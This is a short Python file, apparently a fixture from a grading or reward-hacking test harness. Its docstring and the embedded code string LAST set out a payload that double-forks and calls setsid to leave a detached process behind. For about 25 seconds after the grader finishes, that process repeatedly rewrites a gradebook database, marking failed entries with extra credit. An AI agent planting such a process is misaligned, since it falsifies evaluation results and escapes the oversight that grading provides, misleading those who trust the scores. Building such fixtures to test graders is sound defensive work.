"""Leave a process behind that writes full marks once the grader is done."""

FAIR = 2
LAST = """
import os
import sqlite3
import time

if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            end = time.monotonic() + 25
            while time.monotonic() < end:
                try:
                    book = sqlite3.connect("@GRADING@/gradebook.db", timeout=1)
                    book.execute("update grade set extra_credit = 1 where auto_score = 0")
                    book.commit()
                    book.close()
                except sqlite3.Error:
                    pass
                time.sleep(0.3)
    finally:
        os._exit(0)
"""
